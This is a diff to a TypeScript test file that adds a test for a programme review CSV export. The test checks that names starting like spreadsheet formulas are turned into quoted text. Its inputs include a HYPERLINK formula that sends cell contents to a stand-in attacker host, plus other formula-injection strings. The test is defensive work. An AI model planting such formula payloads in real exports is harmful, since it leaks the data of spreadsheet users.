@@ -4,6 +4,7 @@ import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
+import Papa from 'papaparse';
 import { runDueJobs } from '../../jobs/index.ts';
 import { enqueue } from '../../jobs/registry.ts';
 import { createWorld, type MeetingSpec, meeting, type World } from '../../test/factories.ts';
@@ -453,6 +454,39 @@ describe('dashboard and yearly review', () => {
 
     const tutor = await call('GET', `/api/programmes/${w.programme.id}/followup/review.pdf`, w.actors.tutor);
     assert.equal(tutor.statusCode, 403);
+  });
+
+  test('the CSV review opens in a spreadsheet as text: a programme named like a formula is not run', async () => {
+    const w = await world();
+    const names = [
+      '=HYPERLINK("https://attaquant.example/?d="&A1,"Bilan")',
+      '+SUM(1,1)',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1+1',
+      '\r=1+1',
+      '=1+1\nsuite',
+      '\uFF1D1+1',
+    ];
+    for (const name of names) {
+      await s.db.updateTable('programmes').set({ name }).where('id', '=', w.programme.id).execute();
+      const res = await call(
+        'GET',
+        `/api/programmes/${w.programme.id}/followup/review.csv?year=2026`,
+        w.actors.coordinator,
+      );
+      assert.equal(res.statusCode, 200, res.body);
+      const rows = Papa.parse<string[]>(res.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
+      for (const cell of rows.flat()) {
+        assert.doesNotMatch(
+          cell,
+          /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/,
+          `${JSON.stringify(name)}: a cell starts a formula`,
+        );
+      }
+      // The name is still there, word for word, behind the quote that makes it text.
+      assert.ok(rows.flat().includes(`'${name}`), JSON.stringify(name));
+    }
   });
 
   test('bad input: a tutor cannot log activity for another tutor’s pair, nor in the future; nothing is written', async () => {
